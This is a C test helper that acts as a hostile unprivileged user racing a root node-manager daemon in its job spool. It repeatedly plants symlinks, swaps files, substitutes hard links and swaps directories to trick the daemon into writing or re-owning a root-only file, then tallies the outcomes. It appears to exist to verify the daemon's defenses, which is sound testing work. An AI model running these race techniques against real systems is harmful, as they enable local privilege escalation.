/* A hostile job owner racing the node manager in its spool (storm-cli/tests/hostile_user.rs).
 *
 * Run as an unprivileged user, on a node where that user's next jobs are about to receive
 * their programs. For every job directory SPOOL/job-FIRST to SPOOL/job-LAST (named, not
 * listed: a spool that cannot be listed must not be what stops the attack), it tries, as
 * fast as it can, each way of making the root daemon write or re-own VICTIM (a root-only
 * file):
 *
 *   symlink   plant a symlink to VICTIM under the program's name before the file is made
 *   swap      rename the file being written away and put a symlink to VICTIM in its place
 *   hardlink  replace the file by a hard link to VICTIM
 *   dirswap   rename the job directory away and put a symlink to VICTIM's directory in its
 *             place
 *
 * It stops when STOP exists (or after 120 s) and prints one line per attack: how many times
 * each step succeeded and the last error seen, e.g. "swap renamed=0 planted=0 last=EACCES".
 * Writes READY once it has started.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

struct tally {
    const char *name;
    long first, second;
    int last;
};

static void note(struct tally *t, int ok, int which) {
    if (ok) {
        if (which == 0) t->first++; else t->second++;
    } else {
        t->last = errno;
    }
}

static const char *err_name(int e) {
    switch (e) {
    case 0: return "none";
    case EACCES: return "EACCES";
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case EEXIST: return "EEXIST";
    case EXDEV: return "EXDEV";
    case ENOTDIR: return "ENOTDIR";
    case EISDIR: return "EISDIR";
    case EBUSY: return "EBUSY";
    default: return strerror(e);
    }
}

int main(int argc, char **argv) {
    if (argc != 8) {
        fprintf(stderr, "usage: %s SPOOL FIRST LAST NAME VICTIM READY STOP\n", argv[0]);
        return 2;
    }
    const char *spool = argv[1], *name = argv[4], *victim = argv[5];
    long first = atol(argv[2]), last = atol(argv[3]);
    const char *ready = argv[6], *stop = argv[7];
    char victim_dir[4096];
    snprintf(victim_dir, sizeof victim_dir, "%s", victim);
    char *slash = strrchr(victim_dir, '/');
    if (slash) *slash = 0;

    struct tally symlinked = {"symlink", 0, 0, 0}, swapped = {"swap", 0, 0, 0};
    struct tally hardlinked = {"hardlink", 0, 0, 0}, dirswapped = {"dirswap", 0, 0, 0};
    int fd = open(ready, O_CREAT | O_WRONLY, 0644);
    if (fd >= 0) close(fd);
    time_t until = time(NULL) + 120;
    long rounds = 0;
    while (access(stop, F_OK) != 0 && time(NULL) < until) {
        rounds++;
        for (long job = first; job <= last; job++) {
            char dir[4096], file[4096], moved[4096], away[4096];
            snprintf(dir, sizeof dir, "%s/job-%ld", spool, job);
            snprintf(file, sizeof file, "%s/%s", dir, name);
            snprintf(moved, sizeof moved, "%s/.%s.moved", dir, name);
            snprintf(away, sizeof away, "%s/.job-%ld.away", spool, job);
            struct stat st;
            if (lstat(dir, &st) != 0) continue;
            if (lstat(file, &st) != 0) {
                /* Not made yet: plant a symlink where it will be. */
                note(&symlinked, symlink(victim, file) == 0, 0);
            } else if (S_ISREG(st.st_mode)) {
                /* Being written (or written): swap it for a symlink, then a hard link. */
                int renamed = rename(file, moved) == 0;
                note(&swapped, renamed, 0);
                int planted = renamed && symlink(victim, file) == 0;
                if (renamed) note(&swapped, planted, 1);
                /* Every other round, when no symlink stands there now: a hard link. */
                if (!planted && rounds % 2 == 0) {
                    if (unlink(file) == 0 || errno == ENOENT)
                        note(&hardlinked, link(victim, file) == 0, 0);
                    else
                        note(&hardlinked, 0, 0);
                }
            }
            /* The directory itself. */
            int gone = rename(dir, away) == 0;
            note(&dirswapped, gone, 0);
            if (gone) note(&dirswapped, symlink(victim_dir, dir) == 0, 1);
        }
    }
    printf("rounds=%ld\n", rounds);
    printf("symlink planted=%ld last=%s\n", symlinked.first, err_name(symlinked.last));
    printf("swap renamed=%ld planted=%ld last=%s\n", swapped.first, swapped.second,
           err_name(swapped.last));
    printf("hardlink linked=%ld last=%s\n", hardlinked.first, err_name(hardlinked.last));
    printf("dirswap renamed=%ld planted=%ld last=%s\n", dirswapped.first, dirswapped.second,
           err_name(dirswapped.last));
    return 0;
}
